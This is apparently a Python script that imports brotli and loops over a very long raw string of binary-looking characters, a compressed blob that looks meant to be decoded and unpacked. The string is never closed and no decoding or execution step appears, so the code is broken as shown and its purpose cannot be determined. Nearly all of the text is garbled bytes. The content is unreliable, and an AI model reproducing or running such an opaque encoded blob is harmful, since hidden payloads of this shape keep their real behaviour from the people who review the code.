import brotli
n=a=0;b=1
for c in r'''B8M>t|Ղ$D٦j%GReآ!RadՙBЏبtb^lww4$T*K=E*ڳjc;4'
۱%Nc;F\-/yv t+AVHDfP"ن$vXЩ]q;SpYi4O/܃͜	OІʍ7<PZ}ŝM;6kb9΅mkՃhۢ	dl{	lEek7KXz|=THi:wyF>7o{/"2܃0H%5C]hw[Hk>!WҸhj>%EjAkp)hq+;jD/GB;\bcڇO4iQSyVUn|1'~,!{>
 0`
Ѭ;Dő[@zoDw{qM6)̓ԂnϸR)G?xk
&ң98Wh$eoٱڕQ3-V-pɋiRyhO?]Խn8.:,8+Ēù{oqTWy'0v$:X
7 .	eD+e˽/<2e)n-!tT+8v8ΜlG^n8`MUi\Iۋjf/&[TE&ڔ*:#7kV	BDc3R#'fsm-2^nψFB+s{W}pcdyI*KӚ]Xa޶is?^,@oRk>N٢DJSIsXae(0qZM|%h܋`QDLҔkE؞iDڠNR~=3!1nձׯ$H+2gd¼]hO'$ǙЊB~{%spd<fiߧ\1/ҍsN7n;eG%3\ά7Ӳ}'?c~j@f+-]K[hL\7B@0Rʹ])Mf-C\LȔӞ^A"JKhq< :U8Q&2=֧~3$l6	¤nߑ.jNFs׌"͖)R;eǌ:!,5O 78ޭD`H/c{ed҉NDvZ#$QήZƈbQ%!6N6>`R<ePŶ657k{ԋϜN?^Y
6ER)%ߜRKnLj{oxs{u
O73}GٶhRИXK<Cі7]y9=̖ڇ~<~@,ovE-zA ،H?l\Y߂#=gw*fG"
\ՀңBcĝv?*>LUC\D*.Dp֠@9T@F`tm*Ab0|&ҍq8zM
)'r%]>qþ|"u`S/Hxc*xɴt+c@͗Oѳ6b\^ٍs0=dwȖ	7)Ujl_V`8ӾiP̉ݐRo &2psWY;Dh{ϛn/qs.5mwQ!')f.&DwR#ܒ1԰ <mK[<M.yq&wc6ҙfւZo@Ɋj;k7/5uӦ (\Eq*9.?c7ф0qQL#i$2!7yB6ʑވ>8};m2s2i<āVv/@@s^\%\eBPM+z<P`cNܜϰ;B!b0ѓxƹbG^a[P9m{jH"vMZqz!BڰS AމWlMDWk#]?4d?H\dSU۵ԕСly=aH߇1_,E̶S^9|J7F]2SD8DUM8LAL,qUB$$rGIY-@ҋ.U
	XbJ_@ƅ&М@q6[j˛g=kL3 ͉Lcr,{ق6Cp/܊1נ[D"v0}c&Gq<j9hi[}UN=;5LkX˼o^Wy7<u*'0ФWlr.(KeWV}ywEl<SThO^Yzsz%%'@.$X8CzQ,Cm
ּNR0.?@[Zd;'=xO-.K^9l˫4'ArBY^ n :ҭP$:_M1_{c[yO}pav5m4E0y5ʯѢ^w=JF \6.!G-ߡJqH;%m"ot#B)\.ki:<dTĞ/A\£`ɼlzG{z\j9@WqՅo'3v2EWEez\&TU:{tdlع5!ƠL	+E4Q&)ʋf.4Rd
v^mN Id'$*ނ_Ojok|7[/$D`%P X jqtFL;	FڽX`pߩSO|Y/h(DNuZn=~paۘEYHʴŋRx{\aqȿ8ju6v&%%)*;P"<5U]ɖφ
;lm9>iqƮxO-I5F%-q 4"
ԁH
)W?bn&@-׎	;HNBQ¹8HFzv WIoW 1BH{3ZSm)s[IݲI٬P$LtZw@ZGÆeW][oi>nn
0ʰD%-]#5@Йl@Q3ͻʲC{l:iҤ\pNk**Feųu1-EsEʆDϒMY׎4UÁ0~<]un.,۲ %&V2ʠ^,(߱,Ԝ[.E*Z7J`N۶]&#)oq+d-t1O>dB_5q4Ei>B#2fn#&iopP+Ԡ4HYvE9T#j&/SwȞe*Vζ;0&x`wai^)qy<reBVы4.yk633JyBe+ãgTH
ܥ3A&m+)
)H'7'?WS&øS#^~/TĐ.t#\5.Waџ=30&oEF͛VNErbȬ8mm~)<ʗ$y|\e^097
cy.r)!!'|+qQn!:0>=	:]"QIh	r
mrS];He(8CDeA_@GwC-yhn6Hޝ|RܿгYԆ8,0){m k_3i\uP$%:+ݠ9cB0SٙNY]|LΫ^ɱ32Ӊ8ٌQ1ŤlDy3I^έ>Z/}Ws""<|T:W0^&:'͆Is4ѢG:`O}W,a/5GCe۫.cj@LʵlP'`	L̍go}S+^>BgbiĤIWjяk32UD	NV@6ǉݦ&@i>4ŗx02@Ϣ0Fw	Hh4r*T2\43b'#b^:D;n"SЇ.ѷ,F˒3O؉Rqv,VȯYR٠)ٶ<TNZr#+68rp&r}q&']טm<K!*WIׅR\O}S":@N2ΛH߲Q9ynUۢ>nd>ʰ3؍q Vs'Ak;r5{V3W$y	W<zMϔ*>l
",LK_y_$/Àf%BY0RYY6{x4BŎ^P%pzE#ѽ1K|L"/%SO\ϢIEuˀ)̾c:L1nvh<30qTjL@R<¬ScƋI6:,fbNgۂaJؾVЛjWxG$)b٭nNXɡdڪoiE.XrW57XgX,s|i_'?;$@umv22#-w[2xFvdI(e++hC|f`zjVHYЕ*dsCHWd0O59Muvcr؉vJKq3%ƌ6(ܱnEhͤ3%0?HHwʵfSjXJh;Z*CM}kUѳ][PZYN"U>d9~'$~7%رmpmo]T		s4RqכK֚uYhQ9אDм|@u7C@AvϓTIٱюMqFIoFW7&`HȷsXGHNIFm'PC-o@v!vY$}?k5%SHh}3cǛe7R}m K'P*)6kS-9cb8CɎV6x
tFPVfq]fƮ'Į .m~7xШf-@gJ\hCx>4c?A>m57rUn8#tD\C8AsePiG2ϑV̜d,FЗMK,b-ȄLء
لwy (a!?Gv5$#QT*wNSB	sTVk#s2?zB1C;>{bLGNY^؋ƋUp6HӥG/<opX3XJǰ<reZ85H<7۬]^$޺5In(S>s(}[2w՚]i(z{k<O@Qtu33ũ֚FnƜz^3IFǔ=SĎ=H܈˷ҲyͥcJ[cdόխɛ;p6jAˎܹ*?B"Пic|ѡ<H
maVa)egnTHhͷY\H+v2"a0=ܾRhv	7R'emX4`JǴyv-UpW@(g8@}֐(e@IƤ>
8KiԲ2d6̮b^62KDB>u@պjj@k2{VgTnU0/ہnUp=^Gc4zͧ\*̻J	ttMn3~tUbCk1lC,,Lc,y=4}pΔţZ[Rp~N$a3s'?IS(FbD]^_O H)hbnyw%uX1 !Nbd@W;j}ݎEfcjRc}ZOq%';я{|ZM+7rГDYwdd+ԀZNI$;
t(prR|m^Te'òќ)NQxu@Fk\ѩY$ơ9hUDL#AίRD2z29
I7{SCz6	s7L߀[սl1.n."c!Tz^@LlHÏy	.ׯx<?>'Bǘ})HI ϰrVOfQY۪,!PwM,xӹ%~'_!gt*sN!2N6AŢ-{A;mtL@6$ͯ+DX=N% c
YupˋLn<!Xtq6H%<ϐu)`ς('/}="eEHkw@4fxd(Oydvne9\M݀9ԽH`mw
nũ:jNQ8a]MYXD8ٌ/ LzEjB3{ǍOOr%zqћ؏ړ֤EY72Z=W.|`~de"+גRg@wmB0xEF%ށ1\UJ6iFÑEs<+zrKT7d7.F  	&7ھf/R$pDU@qU<@	-DNq}MrXN?Փ{
w1K^	pF:TUܕxÃՃn+y9-t:#o̌(­Bg%I[qMzV7:"δ4`cS.Kl<bU[Zoƭ\: 9iK]ǝ=ß6c+w$hb]"0Taֺ&~	DRb
Քǳ8??~'7p@iY=΂4wưLޗt+ 5##B.<~MW~~[}]jBZa+|ح,vԘ>90?-.>?DP&ɹ'8O*d.ۚJxP$Dv-֐SD͏ٲzٞtc֤32a'9:JIIԅlJ˓OeNNtW9Bm-?S٢)eݟ8n/[ڔCs576Ђ\΁iTYț}\+Z#of{j(k[3[;},ENW]?lYѣ~V.y7ޥ?{&͙Z8ͯc[ӳjEG"r،e]rIԔjֹ;ݓH>14Z>*80]i1u9}	JҊ؈T~/kب>xQowma|4x>nj+]$`{{:~^s59dJCZ"_X̧щ5z.Vr>-:fs/tط%.IߵWsN1g%IUٷLIzI64/%sP@#zë0{?۲G/e1\V| 2#RV8!s#wK54#AЄ55:.<ji¤eli}$;A@A5f'~92	^B-ǆ0
5%=k8A%&sYm	d)2ߞ1Ѱmđ	G&Ò,܅gB̹ok@̜ԒTĻWwE'E.x'OOH{6S[9M&]A*s؂@o`R/.~;	IwZvp hS͝uRӶ6z{gzϫXG۔_vQuL>ߖ18ggmu,JOwDRƖ^b0dh
3E]EM.}^KU>Hwđ$XX>"7n#F-zKB5lENܹʦݢepucm;pɹ/snI;2oKab^߇\(J<^NRUяájwTP>À4y'c.;hZ`غbĚӎso`+#g@Pk|WdMh9	q^q	%4o0q2q`H8.H}qz)IkB	('&^ֲu-#6!$pK0Ǣ^ņjƇ;=IW"Er';aܙHuYz ̨ڶVQW:dcA!+r}̡	zEyzd^/Q	J-le7B&]<mVh5wn}!?$Ѹ
UUڽ ^:`F+ig5B;ʪˤXzM1Mm'C;ԫE4S:gQSD[	8MW|mu9׊ƕ|(2M.]$^F}gX}eO۴͒#Ğk%LѐW=6~U%h̘ʅ,{11/U1{]PA!TbN>,boX'j{asP+Z$?:F8I2\(j9t^L;65
2|DÏߣզA87*ՙ8m*Zˋw*$'4**gć#`X!BO5)w!ItznsޞLӫ܋FP	rJ:\LORƊnu^{<:0Af~;&Ϣ>Lmv5tك&35"RKnRAbb\Kd$],G "Pq&V='Ȩ2pu{14jQS% yP]2τg:jd%(, S6 2$9$ΒU#w9dOWZjslݜ"5=*_U_`#IG=x	7k;:(3Q&{"C®!+ղ[[7LLrPķ8pE$o=P@՘|d90p؆/ѷF]{add\\q! =HW˫W4}1ѣKvANNiTr7[PϨH-ajt9-Xb9gTBʾaF{ʤ@RGQ{]AGP6-Uj̕Lt9ѣ:aC^'Q
oXcqʫ)jҴ.h;k3x)J-^1|j	gэoD^ʮޔ"VoRΦ߄
X\̰
NgEThYVT2hv.W*&NK`sn&h%s	y:g0.+s;lhhXtcnddC''%:cEClF}"VV_:/Wb҆*c,*ߚӡ-U8Td*1f;Λ
Jj[вV06K3ѮLnԐކX́#Pu$!'	avsqh9`_%ӠеW\G^'W>?*w/-·_%w6
͸Eb͉dxNWROC#5RGnNnhm*&{M))ӊYЯ=uMx͹JV3:|,mصD?lPMՃڌiб)([=O@ߧٙ/g=5	/9iRag)SgF@E;{~"LM9T4Q%Kun$ż,4&mSMfhW;V-'ةF2Υ{BԜ~XG XrQ)+Cux0BTQ҃9GKlV[ӏChkv lmD
p}*pAݴ[#Pp1 PğzEa{0-?hp{%G-XVpϪm6&ϑ[<?Q(@nl48}"OϺlQa[0$)VD#&G`I%N+3bC][i+Dr$f::?LQn}xJ˵f/`F)ٕj"VIҲVA[9h_jaϖ7+͈e՜BiŹ,cG;f*^Z1;5ǳ(,HyRC^[ٍpI,Ҟǫէ:i|?ǔϤ̋8E>jm(\Ogզ]&vͤ!QI1PZTl{~R_I%\<)tS$9.O]֙D0'Nnݍ0<yۖt}t;͉bnRәMD	QWd)xb&\E:<8@b!eOzn^eAw˸8̖+D[@ڵ:bhheq!lGaA(*hD9S'*P84ܨ`/I;uօDG+#cuAIm'2HOQ{[XɃN;ɊĲ3.~SUvÕkn	U[tp"0uǢ-G3ʝiLT5hԦ&ɯWZKmTd~ɠXFzs6Hi>nXKْ=@ؠ%1PM?w))6PM7Bц[~)l3ߤ"ݳԳA Lθץ:t1Wޗk#jԃٶ$@܊TT=)oSe_o;m./4AAY]2/«Ӿk}5gЪAXRrb7gX%\#WUϒKe-dD8y&1/ؿJ|_܋Ҋ6Aј]@if~Kq90|XeL\=R20r7-ux0m`\O5RhΨ"ܞmqc1ݹ{'*;L+&C=4͖9ڧ)P*JU-[I=ݴwMLǵz8(QΙ~.m~,½rUFݯ@%ZFLM.{LZt W}÷5W̓jIZ|XE[ΐ:;pȱEE)
_LB!+pBVO4D_̿|+o43;HB$b%%ɸ{ǹB<V]-)¤upS(gln7ʏbqeNY1<bSbzZƨƨYZ
NSn&տBã#}0=[ŋ"AzTM210I!8μȬ֌}~=pVao[#YQGX'/^c}=Hrww,ˤʔAAy!vEw,[aL~vUOVyדNxuwՒ"Ԍhal =#ZxP4AUӶI)X,UUܥHY|ɰ|t8n9bM_g
ul
L0';V<NPIY3iM}@b>2vk%(dbM/gހp9J#D;T;E	]N,D?ʹVhYwZs1sx{Dk'h!b6YJQcse݈	?صJӜ:)7xmEihyǗyŝ>[ZI)zԄt6s,]?'۟QJ$yCqX[~bpFW(9Jq,+jպcG--0wL3<Amɽ=aLh}'7#a]4A%W^bJE0,B&:rxi)Z#B\vd^bS*e.Y5֑
bR}ٳ23:WU4!*ߕޖUzRWۗuv3ɓQx٤Ų|V"#dW.<K|Ղ7Xk]Gۊ3͟ΐ	tZy15>s͖]Mi]	CjYL>Y_$$bI3*&L?[gց#	Ȭdp1)lro{ҴYjfjRAyIsխƵ-f+Jh /9:|pEgȀuĕ~H0A\TâTx2E̒ɥ&O8=ܿ{z+:)t@C;%,PNW@3Ȅa8z!2٭
)>a+I{*:fgSSDX/Vh6{K@"(-$˨F?l6{ݤP[Z`ת}M1ǤZTn~`)l0&_GJ~މ	!'UԲjW?TET9.jUՇI:Z'twevv^fh`m%O2WͧnvH̉b&;x L5]rW5akǤx^yggexQK\^Q.Ʊan	<PFTVZfex6 E	DVmުA6	16ŕc< ~v$2A!N_ڸs>[|:Q>7Ģo
0,Xk^/Nش[=e¡7r0z'(h=>~|	f&]\Q+P
LӢQ{84?y̌q`@3I^-0-aL7ce]Nۄoljn6j"D֣	KЌXPf]PJw7,zٺURbǉ3N$,gfi!;/a˖5ٗl֕dlmn%1y,XCOEH3ˈgJX-QaĮGhKEqY"dVv0ͷni34ǥ6yh}ku)ܬUvx5g""z"ޢdW0OՒIMNԥA#\At+z$X2E&Aa.M3UFbަ._lB6%RO~KSj4GYmX<!܉KfDL4L!R2`S&f
P*ԭIA&%˓`NI 	ׇKGix\#i<rZJB~m$^JqXێe#%,,Q:A'zbcofpɋ^,k(<*UQhoņQzz7[,jGq9Kv5xt%&5<Lk'CWMP:Ϣ
4X7^|QΙpFD*Y8ȸq<_lQuN`]Js=4e##EOG	'U]J$n[#9Lʖ,9Q8-[bJAiۻHvz~i=^v$J)CpNraΞ*UƠ_8840 1/ȷZlz[EgU,8~XO5gO'Eb̐wzU'sNV7Įvf~Lb~zS)izd4f۶c_T8|M^. ,UۥgAO5aqigRb)g/,Mt,(sjq5*Ύ7m{Xfy)Ho/X2ԘQ."8AGsbޏpYe(?IQH6!fKRp;}1oA!UM}}ޗuf֠.:wKq,Oa}F(eRƾ~a3ҫmX˽^ވ1:ٍ	IQb|,գdPKۗvN8Y^rzRjuO56
H@r@]'sMsëfIau{D$(N/j+^OɎOE̅ɵ
Z	6dբ{nn]^Or?M8d2
zYĖ'] !ނzٱϞX7(\KTq3zHX{4PJR6@Kf>P."@ݶ[
3HfByB/}/-tFUu/rz7TРDNfʩMQFoke]BsqAxe·ap́۹wբbuT̉Ԯl߻êEpz8ַhtyz6ƍJ9%}q<E'6q:`R3I$,ݥ	l8f͑auեĐ(_!=BD&p|S]Ύ'ˆYHнK(&/EiT) MyȆT*jS}OV1rLȆiA-rKo*	p*	_LLjH/
#fݦּo;\ӘT'lw·iօpG	L1k2_ּ&$e6r\Ԍ}­'_V?}JBrlll}z܎WsBǅOK700O^,/ <gYaL[07%}ؒvyܗinjؔ\->3>nDd(hlt!Q"8xptc8H6|HsGW=. !t+o?=ezȮa^!̸o!`ZbH؜W!`;uHVH_s8F`SNv ``&kT>CǏ&j1RQȤ݌qB|ۀnZmuB&q% F	&\FGR=8*AEd5SCCcUt{0N<$*{-]̢3NL"nɑ8X1	 ʨN%!o<r°f}ˑo0C{ɥŤ,-^RӮP
JͿURۼLѲΎwۥuҋJp5Ijv+luw#߯r_qEwOߢ Ge
TƵſنF	w4kF*y@y_N]H%=TqM۱_z"F5
^I2/p;a՝^ժ2C	6n`kPŧT\!XӬ,Z/G%ČP,}x02]R6jl1{ZB`GL42?VaANd:Փ=^ nܑ1X4!&Gǜ5Nʗ]¡MuALlK(ϮܡXznrBߜӰxwI.cI;!|gϋh rfAY6XJdX7?$`us8
y0B.Mq/ڍR|c;,HZ*sT:ʛcUW:i3m֑@)ޝ^m݋tL 8lؾ.`ujʻuGׂ=hܳ-XUPm>=	W|u+d7*?'WޅP|ms5zgOܒTwj.(<oSİ{T6X:-A 	Tв/3Hz]ڧƽAwIt[_6t44Vi)q÷ڐ	nq	KjX&!Ef|ktBqς^Ζđ%Je)w˙߰b6HרEw4ߐX`NRDe]/+΀Ӓm4'I\<ں@K`V֜sg^|߳eHp iadŴU%ְ7|ʞހOЂyd-w'b0f,>Tùc9/wjoPIMAk{t4*GΰF&J7)Zq^c%Ժ*>&~'F]ӷbFV@1+[՟6q%ksc<TWg8/?	~WwGӍQbt/Hb(2t;Lľ2 }l~RsX7(Ů152dG^1	gl`"!MC0,+wmCڞ
<n1`mvr-Ym{K~.hDũQş>2NH-tWĎ8]ǀߒs5!itϚf~_ۤoHU11М2PaKrs/|RGR v{3M[IkǪmՙG~T45iwՆۨ)2?\[OdҎ9B.r?TgV{tB>_@NфmAM=NLef:29S'-X7n+?qN,7fD
z/^<118g#MڨIH(̝-4d8U&ޗ^.ʓ.*٤ɖDF.\(HbuHKv8V(&iJ=c_DJC]Z	HŐg3t@ڬ)).Ąd͘Uݏ
Fj>~u'ն؎)]j0#b!x3[7pw^7oto̬?^PP$ٕgre,xu~9u]*Dڂ3֛j0v7-uB2Bɑ7w9TvOͅUl.Oqfmuџfy@FXc"yA

@NQ0n.t+޴q"bIs4jG37Zz`x=s=_doyOMLhx3I|1՞BJXgIA̦߬iR>2wTe&P5{BVvF|JݾpbR:>mߊT#QUWXܠuQi8_dN,plb,߮lNQs1$NӸ$C&8ɮ3Q3(j-2ËhV"<3|Ǖ{)YLrѦ-Mxmƶ5c]|iealuOa,I5&pCFFNVUM7pVVɤʡ;;k+Ѩ[kIM-k.6y	cdN{߭^ä@Cf`آے]"}F_6<	"эZ(j'Ջщ][adaH̹h>C`ՓLyaN/=ڛOAE57-["ճ/uU= ik*ʯ/bŬVh!(b[Q]~#u^pASe`2[1m@%tFPЧt*'6[4z@M6ܣ#edgidUyh0ucDʢՋiJ%.̴0a$~i.?`HMV@Xuد_BCm0O^D4X}\roU.O}<_k0ۦgIԹ-.}]]Sg_~dߨ=#%­e'Sq2\ج;kgt}Oǳ7iȤq>۔B4Oȷ&q|1SKU!`X%!ک6c,d؎hii[rE
-r/L~2l/<b58`yW		-_CaBH<kk]hSʾUU/*W^0;RF9+L<%6{;T8`Z|e֛R̈́QAʂBVYEMo)РRv&)4Á/FIGM0ؐ߱Mʭ#yMȥnbM<B%]fpe@Ll&__#3E~@JUփuӅ5J_r2)Mݖ4,Ϸ3ޱAWm_nS)ѱ(
D^|:~|Sy/YҢ.Ӣ(]+hpxɰ-ն#+n
t,MwChK0}Yf3}Q9h+zS]y5[e]oo7'@xvNרFwMsw$42Q:j'{Pۧ7SCϯkMNɻQ0QARQȘfʋ-iKZ"`!MiO\$ןSX]&ލ6XFQӢwB(ۂxύ9t;/ǼR=#Ќ+BGvUE²iZGNkE%܂˞W͌8/EΓކ׶սF0N.ݸ$o36/m%ErV]Ɂi<[)	(lEւ0_ǔU-y>|ur܊j}X3ܽ&6d0,l*.D%jֈ0v*pKPuرC|NĝDϽ$D̖d9ҩo^Yĭgl];,`iM@D.ܔ8)7ѹ O,͘3ȕ]{m4ÿ@VyGJ}sT{cεRZӶud0$bbyLxX:_MˢPֹ݆44yY/[I8%7܎=3sg{u31˵>nwîJ(2Vz;	-ɶ_;lL*E9Mj˙.!З"ѥx!5M"2fvFٕ^(-W-PLpΘqd1Jz86sQZn7R]qAhgycVkO;UY+^xXHEnnV;suԣAϩ@:5GD9)۽`\}z=1XΠLSM5*٘[ywU+:7z4pv nC@%CzV&5$[`t@~S/B]16[^سMۣj1gMmkipF	;/,D8; 5@.MC1<n!У6/82 ?ƣBu+Hxhͅ+|͌/O1Ns΂V,ƕ&2vdɡS?K̚ߗθ-φaһ@T6GAa$ٙ'G4ͭUB42<;leQP:2ďjI4x1FݗL5<8M|GI$J{ѷuڣJ
*q¡sd^ߪ:N7Ak2SEL<PBTB[>msyzd`j1'gB,ɲ$͗Yܯ޻#HǸJȩj,ܳ͂M!ccg1l)KXݸAbxGtI{\Wʵ-ơ	JӭpvjJb2ְV\Sʦ| FtaOLUTNs~ݭDT =,ּmksZ_XįQ_!׮,΁)7/w-ܨSdhU%Ђ6*r)$A~W"93u/*	DEnDl:]k$t)JbE5-ٚu$e
{'F"T}̤|ЇL/x+HfXwRQըL/)e\@/	Tƕ8\z
eכrՎ~	uOǆ,TmL/iuk̽H-+f\6HNR%=		=OUso)j9=[ Q)kϹ@,	k52vxRr̥%89'ѶBNG))9x0߸i}ED̔u{Gվ9ӒNf,
ňu^֩ԙfRҷQ.gSfZ:9ՠڍq&C}m	|A*D5"<&ܺmԗL3%h.='ǸRtbU`L`|H"M:~1K"csE5l2n>%aŢ
Y0:,v
.i(P/G׸R<oF޶ơ(-kߒ"I^p\M@	ĚbYJ`oj|Jra,S,j/Θ܆T}]w3
PQA-IGhEx&Uы6i.!Kx|/te"%8i2(Ǥ6JD'.L`ؐ{_Ah/I5TÆGbYnhkDj^~))ȕ_П^^?΅qWIہ^%U8׼<ܝR l,C5[8۵Qۉ29Ub~m"us{ţzmljbnGmHn7y&Hw<''"_l>bz~K5-&}fPfQe`}c_A/Cm)._w'Jlq ;ΎhsUZXvl"i$Hu{3ۘռBB$o΍bog>s</5H99&2`4wJp-z}07~Ƅ1JYe:2یW Җ!?Zi3Ru/-wE.g#&TGOH0=3Bg.[MǢU%Q̮EePS>
 9kd<;TWG[D"{V#0pL2fӶvMZLGֻ
;mԿ1T`RD}}q](]@h9ް_2BL20P]:N|Jgxr8U}hIƉ/DQ0;=6251WgÉ4w[|1́@H@GBF$;N<mI~wŻ?bimEߋ1ԣ?[!G	Ri,{ϭ-)4@?VDmi$̵ٓ"Pu
z̭8B=N6կߢpIšѝK:fס[)0(qFO{dfR5e
)&K}T.Y&<d~C1-z-v3˰i5f
UέϢ%'	GNK,lR>#ѹ%v΅̇|l;(0gN,S3cls$<TqIPU5MigFD_8˵WЌJξϡRy=$D7|8{-3s&Hkvk'g' X!,Ѻ?B\LKьMKm
82Ӝ!Xo{A@ъghi5CBG@ma)zɵOW{VO	i9Q҃jȔhSd6˪.QK@F#	c:- =1o&-H+>,|1))XIM7~xIk9vQOh l)k<XZV<0kIA`HvO}?3	o9t)y5y׸ƕu!ֈ4iݘkD[kܖڇvc$ZJ/	;wgxUـfb{iE~DkT`)TAiȬq$b,1ٗΫY@^ji
&Cm{eFls8@YBƝף׾w'
TJ)	}aSt[g<S؞qGDK[IQؗ0Rm4J-Y E1/}.bt`˾. @Bگ҆=snRXBS-QMn*76ɏE
%٣E==ӧb^wjcܣe[!h3}$ӱ23&[f^CUDpmxʊGME&J
,b.)}CmOH&3{hon]YEBh{~bG^ҫ=ʯ!Ul܄l(ReEsEo}o[)H߇ɩ#.tmrG?>X"ƀ9VˍZu?ܛm*;L;'NΠӡ|òވZrD:4aЪ4A0ٴ#Kf̋|!R-ִGK;Tw;
7GުW~hu#h-77:$	${.,'xZ+\ù@h(SRi{eRJ-x8@$̆AJ$7܂IC_OȠu0%OֶiSٞ
,Hxґy,]6HgZf͙mP}~bjƢ
DQ`ۗcZaҏ{6nٽM@cbQ_ȶ|(.ª=\Ka*PoKu~(TÉ*7ɆŦ	s>6FKpGI7!	>Ň@N۵&U|mȫ(^#H͍;
5Ћ'SB]Q'U{v"pגApHq߇"`dBEؐ/!VA'Q8T/~Ștv]rH)o6>ݢ&Qz@¢cA82F5PӼG9U}A6tv#eȆzȳ5rq{WN4ʳ϶uuɔJ-}"N6z)ߗxsu>kh{fq$ǉF::BnߜsW278`؇ցw3& I4523>	"GЕ/M.O	sNykZh޷3)Qd!#lo{'X	ΗtXxcȬ{F8jldQ ?=`3j_U	Q-Q?Gd	i"PƱ[rāi#g߅Rram,t8nzϠ۪oQB$qhذ-ϑЄl+{vgAYz[_[֯Qہڠs_f~4; GgGm[Մ\V!oʨ`NTz T^'09]<1ZӼ:ۜ@t=Fʣ#waU'pPXC%)5wmi<G35;"[o@Y-:PKn5{V ~Asy>d16AݼZ3޺d"$ٸLplG<0CIP]<.2:-h0Hr0*l	URXAy.7?*ёÝ@H^K;3xu]ZbGγ'|^@`°Sp-qkF\j;'86cWبǽvĈhƻx07>*yg(@{:]f\Ñ[h2L0+hܷw@De4j.ERMaA1:NUS5~O6N0Phr@!AaW*]6RӽsEeR@~l(>˱6.̰Ч&\9j,6ٰIDxyk	fةH8.lBhVTk9-E/͕֕ܽ+R:'ԝCDm}ĢЙA/6޾x$v-IL<&sAr{)ߜPЁߺi-nR7w/Xzީ/FȤ mBN"e^]0s7.`awиd5>d|Y<\Kۯ2ϘuF)o5tLsf&M۵@Gb#٣C/1%qe&GpUDz7h[FA"ЃAsU[ͭګ}	<TެB^֯X߳>i|n-N9zs܏ݰt"zFԤG^.*WǺٶjnnNGNV`	F'}a>"WBYd}T#BR~?w8vsG+͔x|%j ڥd8scf%ӴOH3dȃ@R$fpie[ٜYםI':Gc2Lxu;я0%ˬڛ OvyٲRzxݟZjڬ!ZChMr|&wz#eP=b/m!.̻=viA7	-8Uf9	=Jk=!4Xj,XώEo&qm>:lc'wy0NDJ?W[uQOFc-`hvOlM<7ln>N#^'	T^-ӊq,۸	-Ko
:>o QdE%BHޡZif<0Lk3'W-`qà̃GZk2Iދ .~UA0&E6L{?*S.[XҘwPҩ=	aޟ{aa;GZZ^I&ݚuGsΨޙ1%ۥdڃhO*oӲ@s;BNֶ̂pla&Ń\]m%֞ˑ:xR[l:)Jou65fF0"{r5e4'Pt25i\Z}yq<ީoK=VlzD9 *~8}&6ɐI$gN%!K@/Il&D{GŰ$̐gŅ.Ս݀!uK$Ao/Bd-rI%z:z>2p79m/5EʀW8ļpмZPȎ4}k٨kt5S\}\G]yPVSN?f,&=8kY'!ӟvʄI4Yc.8shqs4dxMޢׅ?Da/TKTM?p&r3>*2-ȚOQCƚ6c_ej--O7mTsJѿ[z1^ۻ܋xWU9ZGFʕ&ЉcHqs[-ԔfՊۊfɊZp7'kMO)w)fپ`%Ɨנcޏٜs =Τ}"ٚF8cP!ҁApIƷ+g3y !Eh|s3˹W}@{XLGplcւ4snIqيi$qsk&OkrRr!^+Lۆ{щ%
c0_-xpT L1Yz׻I/y0V5Dlًރl@7º1eIw۩#+s$qq/~hQ3'x7_\WMxmrdSo4Ă@zE,ԊM_KS8qHt!87J|ZGֈ6ۧ&>aWTHX=a)beҭBَC$-յ`GI(+a6߇rb681Ѝ.J%b%ʙ"8]R.3h,oӹ*l4X/3?5У~'ǃ\3s #goGv#@5̙ϬȮ
2JFr	BCL6?]m7TDCW[/o3L]"ćAmr|bQ6׭
JEoQM{us*ȰP|^aJg^:LU>95ڐEyWԗZ'<ͼ˒pP*uC|T{P1XhF80rfX>\'-8ύcj[y*~ME'ݼ]ޚmdY	3P0-Y6{to<;u(~kvӫ("ϡʷaUŕ/zxMaԧ<,Ijzƫ@loCZB]?BKo@ԥD_Ӵ!<qU'OFd[D\gO-Nym"~;Ч1D-x(xקT](?fL.ioP8,ak<ʉ"#W,HP!'Y?vKg}9uE߼?Imւ9׹;o>tB`8`qHMʽW2v4Of7fΆ7j	$`P*j
ʬ;Pq,;!qڎވh`#"#]Bʥ,VWG1"@t}vfh;c<ѯ>˖˷LfWoN4-)_9a{etտNzNK +,;Td_HƑ,_$8bYSFqak{)(Ld	YXN%&{HCzT~Tٷ>nTFREe2 94:ʍؕB!jV}=# cTae*7-Wq]1.<^oȢ|\r&i>~Qw׉F=-9vаUo_!0nWݑQ# DJܶa6GܦjX܂2r0[@Ӂ8wEuiݙ7!ZJ5@m,<37Ij<"rØս4qEe\ovY(2hf?6ߚuԘ:J˸5 wH.E7ӄY`	},P,?d FaMvBtNU>Χ4ѓ;A~ZkKћYf9qU?i|6ܬ{T\M!+]ͨI#Dto/y/ͻOjagh\m\c_wڪъįK^%dDLF4Zv<&;XCYP	&KwEǤ>ߩP>-]`܌
kG))@5P9Pf%[ϣųjamLUDvӎl Ufj4**5p&ҺbW"|C(]w3j&^c;s09YDKp[N՚'$е5{gI׹MUS̷Q[ɸƑ0U[/FY!ðDOHnޝ}xVR4}UaʕːdLCULUK(JVKC5*gi4<ԓ)1-'$vj<l6\ԃb8Jv>~'s7@()+>}^oW t͖2qLʹD/RGԿIPSϹEHm^a~ *$E$IS,b_B$P `Tu	 /UtMJ*ɹ]@ޫ"<
EV7LvCfCdpr=I4`dU]\ D4\[P!st<f/^+ZCpK]ƷƤNBtûճXl:˷Nl4`/%w#/{Bݕ'ޚjBĪߵơFZ|K*şG0RjM?.6,'Wi>LP^=Q)"@6O]	GHY?ܿp:8֡WGő§6H:w܉IޚCwbDb\Zb7vHEyxb<)I'5{Cpd)ޫ"zY}8,HKV*dGvY߱%9¯5]dCۻmeҖ?5Lښ!c!h<(ޯٶXqVt?ڧUb\pɑ.ФjW&GD;`1a!hn^=Hĺ/]xMkp[y;Vý68كsܺ`HF]I/	/Ӫi	9ا@̻GP>;Ww3af#	)3J{̋Tݶ4Ѭ>&-\$hȬr;	WhD,^Ց5K/Z>͠v(ȇUyrȕ*JJ}KAĩ3ʭ)Ę57~Ҩ{yUE05(U<'QRӵŖBH|=mѫ7quѴM_[w9+܃NUEm|f}{l*UOe<0(pѧntz̙o1<jd|18#Xӭm\Y,ڱoFW=g?mw]sҎ(Io36ݦ#HqoߑKQ Ϊl3lC]vhDAIf߮u#o4L@u7 46NNk^q7SLx%Uɭaΐx҇It<wCCKoI?ԅj'HQӇA9d Hl$^ ¸EdT@fu}Ҕ`-'ABnh&$i!F7+KGҜa)"s͘Ə>>ڒQltPd8]k0;B},ڴʟ
eP.E_LX/]]h"
(F#!gy181FvfŐMBflAۍTh}Q9Y
